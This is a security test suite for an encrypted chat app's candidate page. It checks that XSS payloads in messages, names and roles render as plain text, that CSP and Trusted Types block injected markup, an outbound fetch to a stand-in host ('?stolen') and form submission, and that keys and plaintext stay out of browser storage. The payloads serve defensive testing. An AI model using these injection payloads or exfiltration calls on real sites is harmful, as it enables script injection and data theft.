import { deriveLinkKeys } from '@liexin/e2ee/link-keys';
import { parseLink } from '@liexin/e2ee/parse-link';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { AgencyActor } from '../support/actors/agency-actor.ts';
import { launchBrowser } from '../support/browser.ts';
import { bubble, openLink, send, watchedPage } from '../journeys/candidate-page.ts';
import { anAgency, aScene } from './support/stage.ts';

const image = '<img src=x onerror="window.owned=1">';
const script = '<script>window.owned=1</script>';
const texts = [
  `${script} in a message`,
  `${image} in another`,
  'javascript:window.owned=1',
  '<a href="javascript:window.owned=1">tap</a>',
  '<svg/onload=window.owned=1>',
  '{{constructor.constructor("window.owned=1")()}}',
  'https://example.com/"onmouseover="window.owned=1',
];

let agency: AgencyActor;
let browser: Browser;
beforeAll(async () => {
  [browser, agency] = await Promise.all([launchBrowser(), anAgency(image)]);
});
afterAll(() => browser.close());

const owned = (page: Page) => page.evaluate(() => 'owned' in window);
/** Elements that only markup in a text could have made. */
const strange = (page: Page) =>
  page.evaluate(() =>
    [...document.querySelectorAll('img, script:not([src]), iframe, object, embed, a[href^="javascript"], [onerror], [onload]:not(body), [onmouseover]')].map(
      (one) => one.outerHTML,
    ),
  );

test("[attack 24] markup and script in messages, names and roles stay text on the candidate's page", async () => {
  const { talk, url: _, ...scene } = await aScene(agency, { candidate: `${script}Yifan`, title: image, text: texts[0] ?? '' });
  for (const text of texts.slice(1)) await agency.write(talk.candidateLane, text);
  const { url } = await agency.links.make(talk.conversationId, {
    agency: image,
    first: script.slice(0, 40),
    role: '"><svg/onload=window.owned=1>',
    language: 'en',
    source: 'linkedin',
  });
  const { page, context, faults } = await watchedPage(browser);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await openLink(page, url);
  for (const text of texts) await bubble(page, text.slice(0, 30)).first().waitFor();
  expect(await page.locator('.bub').allInnerTexts()).toEqual(texts.map((text) => expect.stringContaining(text)));
  await page.getByRole('button', { name: 'Menu' }).click();
  await page.getByRole('button', { name: 'Who can read this' }).click();
  expect(await page.title()).not.toContain('<');
  expect([await owned(page), dialogs, await strange(page), faults]).toEqual([false, [], [], []]);
  expect(scene.messageId).toBeTruthy();
  await context.close();
});

test('[attack 24] a script that gets into the page could neither add markup, nor run text, nor send anything out', async () => {
  const { url } = await aScene(agency);
  const { page, context } = await watchedPage(browser);
  await openLink(page, url);
  await bubble(page, 'Could we talk').waitFor();
  const seen = await page.evaluate(async () => {
    const attempt = async (act: () => unknown): Promise<string> => {
      try {
        await act();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    const inline = document.createElement('script');
    const violations: string[] = [];
    const formBlocked = new Promise<void>((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) => {
        violations.push(event.effectiveDirective);
        if (event.effectiveDirective === 'form-action') resolve();
      });
    });
    const result = {
      markup: await attempt(() => {
        document.body.innerHTML = '<img src=x onerror="window.owned=1">';
      }),
      script: await attempt(() => {
        inline.text = 'window.owned=1';
        document.body.append(inline);
      }),
      elsewhere: await attempt(() => fetch('https://example.com/?stolen')),
      worker: await attempt(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
      policy: await attempt(() =>
        (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('mine', {}),
      ),
      text: await attempt(() => {
        document.body.append(document.createTextNode('plain text is fine'));
      }),
    };
    const form = document.createElement('form');
    form.action = 'https://example.com/';
    document.body.append(form);
    form.submit();
    await formBlocked;
    return { ...result, violations: [...new Set(violations)] };
  });
  expect(seen).toMatchObject({ markup: 'TypeError', script: 'TypeError', elsewhere: 'TypeError', worker: 'TypeError', policy: 'TypeError', text: 'done' });
  expect(seen.violations).toEqual(expect.arrayContaining(['require-trusted-types-for', 'connect-src', 'form-action']));
  expect(await owned(page)).toBe(false);
  await context.close();
});

/** Every byte string and text that this origin keeps, in base64; and what exporting the private keys does. */
const storedBy = (page: Page) =>
  page.evaluate(async () => {
    const found: string[] = [];
    const exported: string[] = [];
    const done = <T>(request: IDBRequest<T>): Promise<T> =>
      new Promise((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
    const base64 = (bytes: Uint8Array): string => btoa(Array.from(bytes, (byte) => String.fromCharCode(byte)).join(''));
    const walk = async (value: unknown): Promise<void> => {
      if (value instanceof CryptoKey) {
        if (value.type === 'public') return;
        const format = value.type === 'secret' ? 'raw' : 'pkcs8';
        exported.push(
          await crypto.subtle.exportKey(format, value).then(
            () => 'exported',
            (error: Error) => error.name,
          ),
        );
      } else if (ArrayBuffer.isView(value)) found.push(base64(new Uint8Array(value.buffer, value.byteOffset, value.byteLength)));
      else if (value instanceof ArrayBuffer) found.push(base64(new Uint8Array(value)));
      else if (typeof value === 'string') found.push(base64(new TextEncoder().encode(value)));
      else if (typeof value === 'object' && value !== null) for (const one of Object.values(value)) await walk(one);
    };
    for (const { name = '' } of await indexedDB.databases()) {
      const db = await done(indexedDB.open(name));
      for (const store of db.objectStoreNames) for (const value of await done(db.transaction(store).objectStore(store).getAll())) await walk(value);
      db.close();
    }
    const plain = JSON.stringify([
      Object.entries(localStorage),
      Object.entries(sessionStorage),
      document.cookie,
      history.state,
      location.href,
      document.referrer,
    ]);
    await walk(plain);
    return { found, exported, plain, databases: (await indexedDB.databases()).length };
  });

test('[attack 24] keys cannot be taken out of the browser, and nothing it keeps holds them, the secret or a text in clear', async () => {
  const { url, linkId } = await aScene(agency);
  const { page, context } = await watchedPage(browser);
  await openLink(page, url);
  await bubble(page, 'Could we talk').waitFor();
  await send(page, 'A very private answer');
  await page.locator('.state.sent').waitFor();
  const before = new Set((await storedBy(page)).found);
  await page.locator('#composer').fill('An unfinished thought');
  // Each saving seals anew, so that a stored draft shows as bytes that were not there.
  await expect.poll(async () => (await storedBy(page)).found.some((one) => !before.has(one)), { timeout: 10_000 }).toBe(true);
  const { found, exported, plain, databases } = await storedBy(page);
  expect(databases).toBeGreaterThan(0);
  expect(exported.length).toBeGreaterThanOrEqual(3);
  expect(new Set(exported)).toEqual(new Set(['InvalidAccessError']));
  expect(plain).not.toContain('#');
  const parsed = await parseLink(url);
  if (!parsed.ok) throw new Error(parsed.fault);
  const keys = await deriveLinkKeys(parsed.value.secret, linkId);
  const kept = found.map((one) => Buffer.from(one, 'base64'));
  const holds = (bytes: Uint8Array): boolean =>
    kept.some((one) =>
      [Buffer.from(bytes), ...(['base64', 'base64url', 'hex'] as const).map((form) => Buffer.from(Buffer.from(bytes).toString(form)))].some((form) =>
        one.includes(form),
      ),
    );
  expect(holds(Buffer.from(linkId))).toBe(true);
  for (const secret of [parsed.value.secret, keys.kek, keys.auth, keys.cardKey, keys.macKey]) expect(holds(secret)).toBe(false);
  for (const text of ['A very private answer', 'An unfinished thought', 'Could we talk', 'Helen', url.split('#')[1] ?? '-'])
    expect({ text, found: holds(Buffer.from(text)) }).toEqual({ text, found: false });
  await context.close();
});
